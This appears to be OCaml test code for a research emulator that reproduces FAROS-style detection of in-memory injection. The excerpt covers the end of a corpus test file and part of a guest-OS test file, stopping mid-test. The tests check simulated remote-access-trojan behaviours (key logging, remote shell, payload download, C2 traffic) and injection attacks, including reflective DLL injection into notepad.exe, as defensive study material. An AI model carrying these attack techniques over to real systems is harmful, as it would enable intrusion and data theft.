            let f = Behavior.fragment ~prefix:"t" ~seed:0 b in
            check_b (Behavior.to_string b) true
              (f.Behavior.code <> [] || b = Behavior.Idle))
          Behavior.all);
    Alcotest.test_case "compose follows matrix column order" `Quick (fun () ->
        let frags =
          Behavior.compose ~seed:0 [ Behavior.Remote_shell; Behavior.Idle ]
        in
        check "two" 2 (List.length frags));
    Alcotest.test_case "imports deduplicated" `Quick (fun () ->
        let frags =
          Behavior.compose ~seed:0
            [ Behavior.File_transfer; Behavior.Upload; Behavior.Download ]
        in
        let imports = Behavior.imports frags in
        check "unique" (List.length imports)
          (List.length (List.sort_uniq compare imports)));
    Alcotest.test_case "c2 feed concatenates in order" `Quick (fun () ->
        let frags =
          Behavior.compose ~seed:0 [ Behavior.Download; Behavior.Remote_shell ]
        in
        let feed = Behavior.c2_feed frags in
        check_b "non-empty" true (String.length feed > 0));
    Alcotest.test_case "seeds produce different programs" `Quick (fun () ->
        let image seed =
          Rats.image ~name:"x.exe" ~port:1 ~behaviors:[ Behavior.Key_logger ] ~seed
        in
        check_b "distinct" true
          (Faros_os.Pe.serialize (image 0) <> Faros_os.Pe.serialize (image 1)));
  ]

(* -- registry ---------------------------------------------------------------- *)

let registry_tests =
  [
    Alcotest.test_case "corpus sizes match the paper" `Quick (fun () ->
        check "attacks" 6 (List.length (Registry.attacks ()));
        check "rats" 90 (List.length (Registry.rats ()));
        check "benign" 14 (List.length (Registry.benign ()));
        check "jits" 20 (List.length (Registry.jits ()));
        check "total" 130 (List.length (Registry.all ())));
    Alcotest.test_case "sample ids unique" `Quick (fun () ->
        let ids =
          List.map
            (fun (s : Registry.sample) -> s.id)
            (Registry.all () @ Registry.transient_attacks ())
        in
        check "unique" (List.length ids) (List.length (List.sort_uniq compare ids)));
    Alcotest.test_case "find locates every sample" `Quick (fun () ->
        List.iter
          (fun (s : Registry.sample) ->
            match Registry.find s.id with
            | Some found -> check_b s.id true (found.id = s.id)
            | None -> Alcotest.failf "lost %s" s.id)
          (Registry.all ()));
    Alcotest.test_case "expected verdicts partition correctly" `Quick (fun () ->
        let flagged, clean =
          List.partition
            (fun (s : Registry.sample) -> s.expected = Registry.Expect_flag)
            (Registry.all ())
        in
        (* 6 attacks + 2 native applets *)
        check "expect flag" 8 (List.length flagged);
        check "expect clean" 122 (List.length clean));
    Alcotest.test_case "every scenario's boot images are provided" `Quick
      (fun () ->
        List.iter
          (fun (s : Registry.sample) ->
            List.iter
              (fun b ->
                check_b
                  (Printf.sprintf "%s boots %s" s.id b)
                  true
                  (List.mem_assoc b s.scenario.images))
              s.scenario.boot)
          (Registry.all ()));
    Alcotest.test_case "17 families, Table IV shape" `Quick (fun () ->
        check "families" 17 (List.length Rats.families);
        List.iter
          (fun (_, _, behaviors) ->
            check_b "non-empty behaviours" true (behaviors <> []))
          Rats.families);
    Alcotest.test_case "perf workloads cover the Table V rows" `Quick (fun () ->
        let names = List.map fst (Perf.workloads ()) in
        Alcotest.(check (list string))
          "rows"
          [ "Skype"; "Team Viewer"; "Bozok"; "Spygate"; "Pandora"; "Remote Utility" ]
          names);
  ]

(* -- scenarios run ------------------------------------------------------------- *)

let scenario_tests =
  [
    Alcotest.test_case "attack scenarios terminate well before max_ticks" `Quick
      (fun () ->
        List.iter
          (fun (s : Registry.sample) ->
            let _, trace = Scenario.record s.scenario in
            check_b s.id true (trace.final_tick < s.scenario.max_ticks))
          (Registry.attacks ()));
    Alcotest.test_case "every registry sample records deterministically" `Slow
      (fun () ->
        List.iter
          (fun (s : Registry.sample) ->
            let _, t1 = Scenario.record s.scenario in
            let _, t2 = Scenario.record s.scenario in
            check_b s.id true
              (t1.final_tick = t2.final_tick && t1.events = t2.events))
          (Registry.attacks () @ Registry.jits ()));
    Alcotest.test_case "RAT behaviours produce their side effects" `Quick
      (fun () ->
        (* extremerat has Download: payload.bin must exist afterwards *)
        match Registry.find "extremerat_v2.7.1_s0" with
        | None -> Alcotest.fail "missing sample"
        | Some s ->
          let kernel, _ = Scenario.record s.scenario in
          check_b "dropped download" true
            (Faros_os.Fs.exists kernel.fs "payload.bin"));
    Alcotest.test_case "JIT-generated code actually runs" `Quick (fun () ->
        (* the AJAX browser halts only after calling its generated code; a
           crash would surface as a fault *)
        match Registry.find "ajax_gmail.com" with
        | None -> Alcotest.fail "missing sample"
        | Some s ->
          let kernel, _ = Scenario.record s.scenario in
          List.iter
            (fun (p : Faros_os.Process.t) ->
              check_b (p.proc_name ^ " no fault") true (p.fault = None))
            (Faros_os.Kstate.processes kernel));
    Alcotest.test_case "JVM runs both compilation modes without faulting"
      `Quick (fun () ->
        List.iter
          (fun id ->
            match Registry.find id with
            | None -> Alcotest.failf "missing %s" id
            | Some s ->
              let kernel, _ = Scenario.record s.scenario in
              List.iter
                (fun (p : Faros_os.Process.t) ->
                  check_b
                    (Printf.sprintf "%s/%s no fault" id p.proc_name)
                    true (p.fault = None))
                (Faros_os.Kstate.processes kernel))
          [ "applet_ncradle"; "applet_acceleration" ]);
  ]

(* -- indirect experiments -------------------------------------------------------- *)

let indirect_tests =
  [
    Alcotest.test_case "experiments expose buffer addresses" `Quick (fun () ->
        let e1 = Indirect.lookup_experiment () in
        let e2 = Indirect.bitcopy_experiment () in
        check_b "distinct buffers" true (e1.exp_input_vaddr <> e1.exp_output_vaddr);
        check "len" 14 e1.exp_len;
        check "len2" 14 e2.exp_len);
    Alcotest.test_case "lookup copy preserves values (guest correctness)" `Quick
      (fun () ->
        let e = Indirect.lookup_experiment () in
        let kernel, _ = Scenario.record e.exp_scenario in
        match Faros_os.Kstate.processes kernel with
        | [ p ] ->
          let out =
            Faros_vm.Mmu.read_bytes kernel.machine.mmu
              ~asid:(Faros_os.Process.asid p) e.exp_output_vaddr e.exp_len
          in
          Alcotest.(check string) "copied" "Tainted string" (Bytes.to_string out)
        | _ -> Alcotest.fail "expected one process");
    Alcotest.test_case "bit copy reconstructs values bit by bit" `Quick
      (fun () ->
        let e = Indirect.bitcopy_experiment () in
        let kernel, _ = Scenario.record e.exp_scenario in
        match Faros_os.Kstate.processes kernel with
        | [ p ] ->
          let out =
            Faros_vm.Mmu.read_bytes kernel.machine.mmu
              ~asid:(Faros_os.Process.asid p) e.exp_output_vaddr e.exp_len
          in
          Alcotest.(check string) "copied" "Tainted string" (Bytes.to_string out)
        | _ -> Alcotest.fail "expected one process");
  ]

(* -- extras ----------------------------------------------------------------- *)

let extras_tests =
  [
    Alcotest.test_case "dll_host loads and calls through the legit path" `Quick
      (fun () ->
        let scn = Extras.dll_host () in
        let kernel, _ = Scenario.record scn in
        match Faros_os.Kstate.processes kernel with
        | [ p ] -> check "double_it(21)" 42 p.exit_code
        | _ -> Alcotest.fail "expected one process");
    Alcotest.test_case "dll_host is clean under FAROS" `Quick (fun () ->
        let outcome = Scenario.analyze (Extras.dll_host ()) in
        check_b "clean" false (Core.Report.flagged outcome.report);
        check_b "no divergence" false outcome.replay.diverged);
    Alcotest.test_case "ipc pair delivers the message over loopback" `Quick
      (fun () ->
        let scn = Extras.ipc_pair () in
        let printed = ref [] in
        let kernel, _ =
          Faros_replay.Recorder.record ~max_ticks:scn.max_ticks
            ~plugins:(fun _ ->
              [
                Faros_replay.Plugin.make "w" ~on_os_event:(fun ev ->
                    match ev with
                    | Faros_os.Os_event.Debug_print { text; _ } ->
                      printed := text :: !printed
                    | _ -> ());
              ])
            ~setup:(Scenario.setup_record scn) ~boot:(Scenario.boot scn) ()
        in
        ignore kernel;
        Alcotest.(check (list string)) "message" [ "ping" ] !printed);
    Alcotest.test_case "ipc pair replays deterministically and clean" `Quick
      (fun () ->
        let outcome = Scenario.analyze (Extras.ipc_pair ()) in
        check_b "no divergence" false outcome.replay.diverged;
        check_b "clean" false (Core.Report.flagged outcome.report));
  ]


(* -- more corpus invariants ------------------------------------------------------ *)

let more_corpus_tests =
  [
    Alcotest.test_case "JVM cache base matches the deterministic allocator"
      `Quick (fun () ->
        check "base"
          (Faros_os.Process.heap_base + (2 * Faros_vm.Phys_mem.page_size))
          Jit.java_cache_base);
    Alcotest.test_case "native stub is assembled for the cache base" `Quick
      (fun () ->
        (* its export scan must reference the directory, and its internal
           calls must land inside [cache, cache+len) *)
        let stub = Payloads.applet_native_stub ~origin:Jit.java_cache_base () in
        let listing = Faros_vm.Disasm.buffer (Bytes.of_string stub) in
        let call_targets =
          List.filter_map
            (function _, Faros_vm.Isa.Call t -> Some t | _ -> None)
            listing
        in
        check_b "has calls" true (call_targets <> []);
        List.iter
          (fun t ->
            check_b "in-range" true
              (t >= Jit.java_cache_base
              && t < Jit.java_cache_base + String.length stub))
          call_targets);
    Alcotest.test_case "perf workloads replay deterministically" `Slow (fun () ->
        List.iter
          (fun (label, scn) ->
            let _, trace = Scenario.record scn in
            let r = Scenario.replay_plain scn trace in
            check_b label false r.diverged)
          (Perf.workloads ()));
    Alcotest.test_case "transient attack leaves no payload mapping behind"
      `Quick (fun () ->
        match Registry.find "reflective_dll_inject_transient" with
        | None -> Alcotest.fail "missing"
        | Some s ->
          let kernel, _ = Scenario.record s.scenario in
          let victim =
            List.find
              (fun (p : Faros_os.Process.t) -> p.proc_name = "notepad.exe")
              (Faros_os.Kstate.processes kernel)
          in
          check_b "payload page unmapped" false
            (Faros_vm.Mmu.is_mapped victim.space ~vaddr:Faros_os.Process.heap_base));
    Alcotest.test_case "evasive client produces byte-identical payload" `Quick
      (fun () ->
        (* the laundering loop must not corrupt the payload, or the attack
           would not work at all *)
        match Registry.find "evasive_laundering_injection" with
        | None -> Alcotest.fail "missing"
        | Some s ->
          let popped = ref [] in
          let _kernel, _ =
            Faros_replay.Recorder.record ~max_ticks:s.scenario.max_ticks
              ~plugins:(fun kernel ->
                [
                  Faros_replay.Plugin.make "w" ~on_os_event:(fun ev ->
                      match ev with
                      | Faros_os.Os_event.Popup { pid; text } ->
                        popped :=
                          (Faros_os.Kstate.proc_name kernel pid, text) :: !popped
                      | _ -> ());
                ])
              ~setup:(Scenario.setup_record s.scenario)
              ~boot:(Scenario.boot s.scenario)
              ()
          in
          Alcotest.(check (list (pair string string)))
            "payload executed in the victim"
            [ ("notepad.exe", "laundered!") ]
            !popped);
    Alcotest.test_case "behaviour c2 feeds are consumed exactly" `Quick
      (fun () ->
        (* a RAT with Download+Remote_shell finishes cleanly: the feed
           matches what the fragments recv *)
        match Registry.find "extremerat_v2.7.1_s1" with
        | None -> Alcotest.fail "missing"
        | Some s ->
          let kernel, _ = Scenario.record s.scenario in
          List.iter
            (fun (p : Faros_os.Process.t) ->
              check_b (p.proc_name ^ " clean exit") true (p.fault = None))
            (Faros_os.Kstate.processes kernel));
    Alcotest.test_case "RAT C2 traffic actually flows" `Quick (fun () ->
        (* regression: an earlier bug clobbered the socket handle and every
           behaviour send silently failed *)
        match Registry.find "pandora_v2.2_s0" with
        | None -> Alcotest.fail "missing"
        | Some s ->
          let sends = ref 0 in
          let _k, _ =
            Faros_replay.Recorder.record ~max_ticks:s.scenario.max_ticks
              ~plugins:(fun _ ->
                [
                  Faros_replay.Plugin.make "w" ~on_os_event:(fun ev ->
                      match ev with
                      | Faros_os.Os_event.Net_send _ -> incr sends
                      | _ -> ());
                ])
              ~setup:(Scenario.setup_record s.scenario)
              ~boot:(Scenario.boot s.scenario)
              ()
          in
          check_b "behaviours sent traffic" true (!sends >= 4));
    Alcotest.test_case "fig4: the full provenance life cycle" `Slow (fun () ->
        let exp = Fig4.experiment () in
        let outcome = Scenario.analyze exp.exp_scenario in
        let kernel = outcome.Core.Analysis.faros.kernel in
        check_b "no divergence" false outcome.replay.diverged;
        (* the data really travelled: file1 holds the payload *)
        Alcotest.(check string)
          "file contents" Fig4.payload
          (Faros_os.Fs.read_all kernel.fs Fig4.file1);
        let p3 =
          List.find
            (fun (p : Faros_os.Process.t) -> p.proc_name = "process3.exe")
            (Faros_os.Kstate.processes kernel)
        in
        let paddr =
          Faros_vm.Mmu.translate kernel.machine.mmu
            ~asid:(Faros_os.Process.asid p3) exp.exp_sink_vaddr
        in
        let prov =
          Faros_dift.Shadow.get_mem outcome.faros.engine.shadow paddr
        in
        (* newest first: P3, file hops, P2, P1, netflow — the Fig. 4 chain *)
        check_b "netflow at origin" true (Faros_dift.Provenance.has_netflow prov);
        check_b "file hop present" true (Faros_dift.Provenance.has_file prov);
        check "three processes touched it" 3
          (List.length (Faros_dift.Provenance.process_indices prov));
        (* and nothing was flagged: a legitimate multi-hop flow *)
        check_b "clean" false (Core.Report.flagged outcome.report));
    Alcotest.test_case "all attack images disassemble fully" `Quick (fun () ->
        List.iter
          (fun (s : Registry.sample) ->
            List.iter
              (fun (_, (img : Faros_os.Pe.t)) ->
                List.iter
                  (fun (sec : Faros_os.Pe.section) ->
                    check_b (s.id ^ "/" ^ sec.sec_name) true
                      (Faros_vm.Disasm.buffer (Bytes.of_string sec.sec_data) <> []))
                  img.sections)
              s.scenario.images)
          (Registry.attacks ()));
  ]

let () =
  Alcotest.run "faros_corpus"
    [
      ("payloads", payload_tests);
      ("behaviors", behavior_tests);
      ("registry", registry_tests);
      ("scenarios", scenario_tests);
      ("indirect", indirect_tests);
      ("extras", extras_tests);
      ("corpus-more", more_corpus_tests);
    ]
