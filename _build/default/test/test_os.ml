(* Tests for the guest OS: filesystem, netstack, MiniPE, export tables,
   loader/spawn, syscalls and the kernel run loop. *)

open Faros_os

let check = Alcotest.(check int)
let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)

(* -- ip / flow ------------------------------------------------------------ *)

let ip_tests =
  [
    Alcotest.test_case "parse/print roundtrip" `Quick (fun () ->
        check_s "rt" "169.254.26.161"
          (Types.Ip.to_string (Types.Ip.of_string "169.254.26.161"));
        check "value" 0x7F000001 (Types.Ip.of_string "127.0.0.1"));
    Alcotest.test_case "rejects bad addresses" `Quick (fun () ->
        List.iter
          (fun s ->
            match Types.Ip.of_string s with
            | exception (Invalid_argument _ | Failure _) -> ()
            | _ -> Alcotest.failf "accepted %S" s)
          [ "1.2.3"; "1.2.3.4.5"; "256.1.1.1"; "-1.2.3.4"; "a.b.c.d" ]);
    Alcotest.test_case "flow renders like the paper" `Quick (fun () ->
        let f =
          {
            Types.src_ip = Types.Ip.of_string "169.254.26.161";
            src_port = 4444;
            dst_ip = Types.Ip.of_string "169.254.57.168";
            dst_port = 49162;
          }
        in
        check_s "render"
          "{src ip,port: 169.254.26.161:4444, dest ip.port: 169.254.57.168:49162}"
          (Fmt.str "%a" Types.pp_flow f));
  ]

(* -- filesystem ----------------------------------------------------------- *)

let fs_tests =
  [
    Alcotest.test_case "create, write, read" `Quick (fun () ->
        let fs = Fs.create () in
        let f = Fs.create_file fs "a.txt" in
        Fs.write f ~offset:0 (Bytes.of_string "hello");
        check_s "read" "hello" (Fs.read_all fs "a.txt"));
    Alcotest.test_case "write extends with zero fill" `Quick (fun () ->
        let fs = Fs.create () in
        let f = Fs.create_file fs "a" in
        Fs.write f ~offset:3 (Bytes.of_string "x");
        check "size" 4 (Fs.size fs "a");
        check_s "content" "\000\000\000x" (Fs.read_all fs "a"));
    Alcotest.test_case "version counts accesses" `Quick (fun () ->
        let fs = Fs.create () in
        ignore (Fs.create_file fs "a");
        check "v1" 1 (Fs.version fs "a");
        ignore (Fs.open_file fs "a");
        ignore (Fs.open_file fs "a");
        check "v3" 3 (Fs.version fs "a"));
    Alcotest.test_case "create truncates and bumps version" `Quick (fun () ->
        let fs = Fs.create () in
        let f = Fs.create_file fs "a" in
        Fs.write f ~offset:0 (Bytes.of_string "data");
        ignore (Fs.create_file fs "a");
        check "size" 0 (Fs.size fs "a");
        check "version" 2 (Fs.version fs "a"));
    Alcotest.test_case "read past end is short" `Quick (fun () ->
        let fs = Fs.create () in
        let f = Fs.create_file fs "a" in
        Fs.write f ~offset:0 (Bytes.of_string "abc");
        check "short" 1 (Bytes.length (Fs.read f ~offset:2 ~len:10));
        check "empty" 0 (Bytes.length (Fs.read f ~offset:5 ~len:10)));
    Alcotest.test_case "delete and missing-file errors" `Quick (fun () ->
        let fs = Fs.create () in
        ignore (Fs.create_file fs "a");
        Fs.delete fs "a";
        check_b "gone" false (Fs.exists fs "a");
        Alcotest.check_raises "missing" (Fs.No_such_file "a") (fun () ->
            ignore (Fs.open_file fs "a")));
    Alcotest.test_case "list is sorted" `Quick (fun () ->
        let fs = Fs.create () in
        ignore (Fs.create_file fs "b");
        ignore (Fs.create_file fs "a");
        Alcotest.(check (list string)) "sorted" [ "a"; "b" ] (Fs.list fs));
  ]

(* -- netstack -------------------------------------------------------------- *)

let mk_actor ?(on_connect = fun _ -> []) ?(on_data = fun _ _ -> []) ip port =
  {
    Netstack.actor_name = "test";
    actor_ip = Types.Ip.of_string ip;
    actor_port = port;
    on_connect;
    on_data;
  }

let local = Types.Ip.of_string "10.0.0.1"

let net_tests =
  [
    Alcotest.test_case "connect gets paper's first ephemeral port" `Quick
      (fun () ->
        let net = Netstack.create ~local_ip:local in
        Netstack.register_actor net (mk_actor "10.0.0.2" 80);
        let s = Netstack.socket net in
        let flow =
          Netstack.connect net s ~ip:(Types.Ip.of_string "10.0.0.2") ~port:80
        in
        check "ephemeral" 49162 flow.dst_port;
        check "remote port" 80 flow.src_port);
    Alcotest.test_case "connection refused without listener" `Quick (fun () ->
        let net = Netstack.create ~local_ip:local in
        let s = Netstack.socket net in
        match Netstack.connect net s ~ip:1 ~port:2 with
        | exception Netstack.Connection_refused _ -> ()
        | _ -> Alcotest.fail "expected refusal");
    Alcotest.test_case "on_connect payload is received in chunks" `Quick
      (fun () ->
        let net = Netstack.create ~local_ip:local in
        Netstack.register_actor net
          (mk_actor ~on_connect:(fun _ -> [ "hello "; "world" ]) "10.0.0.2" 80);
        let s = Netstack.socket net in
        ignore (Netstack.connect net s ~ip:(Types.Ip.of_string "10.0.0.2") ~port:80);
        check_s "partial" "hel" (Netstack.recv net s ~len:3);
        check_s "rest" "lo world" (Netstack.recv net s ~len:100);
        check_s "dry" "" (Netstack.recv net s ~len:10));
    Alcotest.test_case "send triggers on_data reply" `Quick (fun () ->
        let net = Netstack.create ~local_ip:local in
        Netstack.register_actor net
          (mk_actor ~on_data:(fun _ req -> [ "re:" ^ req ]) "10.0.0.2" 80);
        let s = Netstack.socket net in
        ignore (Netstack.connect net s ~ip:(Types.Ip.of_string "10.0.0.2") ~port:80);
        check "sent" 4 (Netstack.send net s "ping");
        check_s "reply" "re:ping" (Netstack.recv net s ~len:100));
    Alcotest.test_case "record sink sees rx traffic" `Quick (fun () ->
        let net = Netstack.create ~local_ip:local in
        let seen = ref [] in
        Netstack.set_record_sink net (fun _flow data -> seen := data :: !seen);
        Netstack.register_actor net
          (mk_actor ~on_connect:(fun _ -> [ "a"; "b" ]) "10.0.0.2" 80);
        let s = Netstack.socket net in
        ignore (Netstack.connect net s ~ip:(Types.Ip.of_string "10.0.0.2") ~port:80);
        Alcotest.(check (list string)) "chunks" [ "b"; "a" ] !seen);
    Alcotest.test_case "replay source bypasses actors" `Quick (fun () ->
        let net = Netstack.create ~local_ip:local in
        Netstack.set_replay_source net (fun _flow -> [ "replayed" ]);
        let s = Netstack.socket net in
        ignore (Netstack.connect net s ~ip:7 ~port:7);
        check_s "data" "replayed" (Netstack.recv net s ~len:100));
    Alcotest.test_case "distinct connects get distinct flows" `Quick (fun () ->
        let net = Netstack.create ~local_ip:local in
        Netstack.register_actor net (mk_actor "10.0.0.2" 80);
        let s1 = Netstack.socket net and s2 = Netstack.socket net in
        let f1 =
          Netstack.connect net s1 ~ip:(Types.Ip.of_string "10.0.0.2") ~port:80
        in
        let f2 =
          Netstack.connect net s2 ~ip:(Types.Ip.of_string "10.0.0.2") ~port:80
        in
        check_b "different" false (Types.flow_equal f1 f2));
    Alcotest.test_case "sent traffic is retained for forensics" `Quick (fun () ->
        let net = Netstack.create ~local_ip:local in
        Netstack.register_actor net (mk_actor "10.0.0.2" 80);
        let s = Netstack.socket net in
        ignore (Netstack.connect net s ~ip:(Types.Ip.of_string "10.0.0.2") ~port:80);
        ignore (Netstack.send net s "x");
        ignore (Netstack.send net s "y");
        check "two" 2 (List.length (Netstack.sent_traffic net)));
    Alcotest.test_case "loopback bind/listen/accept pairs sockets" `Quick
      (fun () ->
        let net = Netstack.create ~local_ip:local in
        let srv = Netstack.socket net in
        Netstack.bind net srv ~port:9000;
        Netstack.listen net srv;
        check_b "nothing pending" true (Netstack.accept net srv = None);
        let cli = Netstack.socket net in
        let flow = Netstack.connect net cli ~ip:Netstack.loopback_ip ~port:9000 in
        check "client flow from server port" 9000 flow.src_port;
        (match Netstack.accept net srv with
        | None -> Alcotest.fail "expected pending connection"
        | Some conn ->
          ignore (Netstack.send net cli "ping");
          check_s "server got it" "ping" (Netstack.recv net conn ~len:8);
          ignore (Netstack.send net conn "pong");
          check_s "client got reply" "pong" (Netstack.recv net cli ~len:8)));
    Alcotest.test_case "loopback connect refused without listener" `Quick
      (fun () ->
        let net = Netstack.create ~local_ip:local in
        let cli = Netstack.socket net in
        match Netstack.connect net cli ~ip:Netstack.loopback_ip ~port:7777 with
        | exception Netstack.Connection_refused _ -> ()
        | _ -> Alcotest.fail "expected refusal");
    Alcotest.test_case "loopback traffic bypasses the record sink" `Quick
      (fun () ->
        let net = Netstack.create ~local_ip:local in
        let recorded = ref 0 in
        Netstack.set_record_sink net (fun _ _ -> incr recorded);
        let srv = Netstack.socket net in
        Netstack.bind net srv ~port:9000;
        Netstack.listen net srv;
        let cli = Netstack.socket net in
        ignore (Netstack.connect net cli ~ip:Netstack.loopback_ip ~port:9000);
        (match Netstack.accept net srv with
        | Some conn -> ignore (Netstack.send net cli "x"); ignore conn
        | None -> Alcotest.fail "no pending");
        check "nothing recorded" 0 !recorded);
    Alcotest.test_case "double bind on a port is refused" `Quick (fun () ->
        let net = Netstack.create ~local_ip:local in
        let a = Netstack.socket net and b = Netstack.socket net in
        Netstack.bind net a ~port:9000;
        match Netstack.bind net b ~port:9000 with
        | exception Netstack.Bad_socket _ -> ()
        | _ -> Alcotest.fail "expected Bad_socket");
    Alcotest.test_case "bad socket raises" `Quick (fun () ->
        let net = Netstack.create ~local_ip:local in
        Alcotest.check_raises "bad" (Netstack.Bad_socket 99) (fun () ->
            ignore (Netstack.recv net 99 ~len:1)));
  ]

(* -- MiniPE ---------------------------------------------------------------- *)

let sample_image () =
  Pe.of_program ~name:"t.exe" ~base:0x400000
    ~imports:[ "WriteFile"; "socket" ]
    ~exports:[ "start" ]
    [
      Faros_vm.Asm.Label "start";
      Faros_vm.Asm.I Faros_vm.Isa.Nop;
      Faros_vm.Asm.I Faros_vm.Isa.Halt;
    ]

let pe_tests =
  [
    Alcotest.test_case "serialize/parse roundtrip" `Quick (fun () ->
        let img = sample_image () in
        let img' = Pe.parse (Pe.serialize img) in
        check_s "name" img.img_name img'.img_name;
        check "base" img.base img'.base;
        check "entry" img.entry img'.entry;
        Alcotest.(check (list (pair string int))) "imports" img.imports img'.imports;
        Alcotest.(check (list (pair string int))) "exports" img.exports img'.exports;
        check "sections" (List.length img.sections) (List.length img'.sections));
    Alcotest.test_case "entry defaults to base without start" `Quick (fun () ->
        let img =
          Pe.of_program ~name:"x" ~base:0x400000 [ Faros_vm.Asm.I Faros_vm.Isa.Halt ]
        in
        check "entry" 0x400000 img.entry);
    Alcotest.test_case "iat slots appended per import" `Quick (fun () ->
        let img = sample_image () in
        check "two imports" 2 (List.length img.imports);
        List.iter
          (fun (_, slot) -> check_b "slot in image" true (slot >= img.base))
          img.imports);
    Alcotest.test_case "bad magic rejected" `Quick (fun () ->
        Alcotest.check_raises "magic" (Pe.Bad_image "bad magic") (fun () ->
            ignore (Pe.parse "NOPE....")));
    Alcotest.test_case "truncated image rejected" `Quick (fun () ->
        let s = Pe.serialize (sample_image ()) in
        match Pe.parse (String.sub s 0 (String.length s - 3)) with
        | exception Pe.Bad_image _ -> ()
        | _ -> Alcotest.fail "expected Bad_image");
    Alcotest.test_case "mapped_pages covers the span" `Quick (fun () ->
        let img = sample_image () in
        check_b "at least one page" true (Pe.mapped_pages img >= 1));
  ]

(* -- export table / kernel region ------------------------------------------ *)

let export_tests =
  [
    Alcotest.test_case "hash is deterministic and spreads" `Quick (fun () ->
        check "same"
          (Export_table.hash_name "LoadLibraryA")
          (Export_table.hash_name "LoadLibraryA");
        check_b "different" true
          (Export_table.hash_name "LoadLibraryA"
          <> Export_table.hash_name "GetProcAddress"));
    Alcotest.test_case "all APIs exported with distinct stubs" `Quick (fun () ->
        let machine = Faros_vm.Machine.create () in
        let et = Export_table.build machine in
        check "count" (List.length Syscall.exported_apis) (Export_table.entry_count et);
        let addrs = List.map snd et.exports in
        check "distinct" (List.length addrs)
          (List.length (List.sort_uniq compare addrs)));
    Alcotest.test_case "directory layout: count then entries" `Quick (fun () ->
        let machine = Faros_vm.Machine.create () in
        let et = Export_table.build machine in
        let read4 v = Faros_vm.Mmu.read ~width:4 machine.mmu ~asid:et.space.asid v in
        check "count word" (Export_table.entry_count et)
          (read4 Export_table.export_dir_vaddr);
        let api, addr = List.hd et.exports in
        check "hash" (Export_table.hash_name api) (read4 Export_table.entries_vaddr);
        check "pointer" addr (read4 (Export_table.entries_vaddr + 4)));
    Alcotest.test_case "pointer paddrs cover 4 bytes per export" `Quick (fun () ->
        let machine = Faros_vm.Machine.create () in
        let et = Export_table.build machine in
        check "paddrs" (4 * Export_table.entry_count et)
          (List.length et.pointer_paddrs));
    Alcotest.test_case "stubs decode to mov/syscall/ret" `Quick (fun () ->
        let machine = Faros_vm.Machine.create () in
        let et = Export_table.build machine in
        let stub = Export_table.stub_addr et "VirtualAlloc" in
        let fetch off =
          Faros_vm.Mmu.read_u8 machine.mmu ~asid:et.space.asid (stub + off)
        in
        let i1, l1 = Faros_vm.Decode.decode fetch in
        check_b "mov r0" true
          (i1
          = Faros_vm.Isa.Mov_ri (Faros_vm.Isa.r0, Syscall.nt_allocate_virtual_memory));
        let fetch2 off = fetch (l1 + off) in
        let i2, _ = Faros_vm.Decode.decode fetch2 in
        check_b "syscall" true (i2 = Faros_vm.Isa.Syscall));
    Alcotest.test_case "26+ filesystem syscalls hookable" `Quick (fun () ->
        check_b "surface" true (List.length Syscall.filesystem_syscalls >= 10));
  ]

(* -- kernel integration ----------------------------------------------------- *)

let i x = Faros_vm.Asm.I x
let r0 = Faros_vm.Isa.r0
let r1 = Faros_vm.Isa.r1
let r2 = Faros_vm.Isa.r2
let r3 = Faros_vm.Isa.r3

(* Boot a kernel with one program installed as [name] and run it. *)
let run_guest ?(name = "t.exe") ?(imports = []) ?(setup = fun _ -> ()) items =
  let k = Kernel.create () in
  setup k;
  let image = Pe.of_program ~name ~base:Process.image_base ~imports items in
  Kernel.install_image k ~path:name image;
  let events = ref [] in
  Kernel.subscribe k (fun ev -> events := ev :: !events);
  let pid = Kernel.spawn k name in
  Kernel.run k;
  (k, pid, List.rev !events)

let events_of_kind name events =
  List.filter (fun ev -> Os_event.name ev = name) events

let kernel_tests =
  [
    Alcotest.test_case "spawn + halt emits lifecycle events" `Quick (fun () ->
        let _, pid, events =
          run_guest [ i (Faros_vm.Isa.Mov_ri (r1, 3)); i Faros_vm.Isa.Halt ]
        in
        check "created" 1 (List.length (events_of_kind "proc_created" events));
        match events_of_kind "proc_exited" events with
        | [ Os_event.Proc_exited { pid = p; code } ] ->
          check "pid" pid p;
          check "exit code from r1" 3 code
        | _ -> Alcotest.fail "expected one exit");
    Alcotest.test_case "image load gets file_read provenance events" `Quick
      (fun () ->
        let _, _, events = run_guest [ i Faros_vm.Isa.Halt ] in
        check_b "file_read for image" true (events_of_kind "file_read" events <> []));
    Alcotest.test_case "dbg_print reaches subscribers" `Quick (fun () ->
        let _, _, events =
          run_guest
            (List.concat
               [
                 [
                   Faros_vm.Asm.Label "start";
                   Faros_corpus.Progs.lea_label r1 "msg";
                   i (Faros_vm.Isa.Mov_ri (r2, 5));
                 ];
                 Faros_corpus.Progs.syscall Syscall.dbg_print;
                 [ i Faros_vm.Isa.Halt ];
                 Faros_corpus.Progs.cstring "msg" "hello";
               ])
        in
        match events_of_kind "debug_print" events with
        | [ Os_event.Debug_print { text; _ } ] -> check_s "text" "hello" text
        | _ -> Alcotest.fail "expected debug_print");
    Alcotest.test_case "file write syscall persists to fs" `Quick (fun () ->
        let k, _, _ =
          run_guest
            (List.concat
               [
                 [
                   Faros_vm.Asm.Label "start";
                   Faros_corpus.Progs.lea_label r1 "path";
                   i (Faros_vm.Isa.Mov_ri (r2, 5));
                 ];
                 Faros_corpus.Progs.syscall Syscall.nt_create_file;
                 [
                   i (Faros_vm.Isa.Mov_rr (r1, r0));
                   Faros_corpus.Progs.lea_label r2 "data";
                   i (Faros_vm.Isa.Mov_ri (r3, 4));
                 ];
                 Faros_corpus.Progs.syscall Syscall.nt_write_file;
                 [ i Faros_vm.Isa.Halt ];
                 Faros_corpus.Progs.cstring "path" "out.t";
                 Faros_corpus.Progs.cstring "data" "ABCD";
               ])
        in
        check_s "content" "ABCD" (Fs.read_all k.fs "out.t"));
    Alcotest.test_case "file read/seek syscalls observe position" `Quick
      (fun () ->
        let _, pid, k_and_events =
          let k, pid, events =
            run_guest
              ~setup:(fun k -> Fs.install k.fs "in.t" "0123456789")
              (List.concat
                 [
                   [
                     Faros_vm.Asm.Label "start";
                     Faros_corpus.Progs.lea_label r1 "path";
                     i (Faros_vm.Isa.Mov_ri (r2, 4));
                   ];
                   Faros_corpus.Progs.syscall Syscall.nt_open_file;
                   [ i (Faros_vm.Isa.Mov_rr (Faros_vm.Isa.r7, r0)) ];
                   [
                     i (Faros_vm.Isa.Mov_rr (r1, Faros_vm.Isa.r7));
                     i (Faros_vm.Isa.Mov_ri (r2, 6));
                   ];
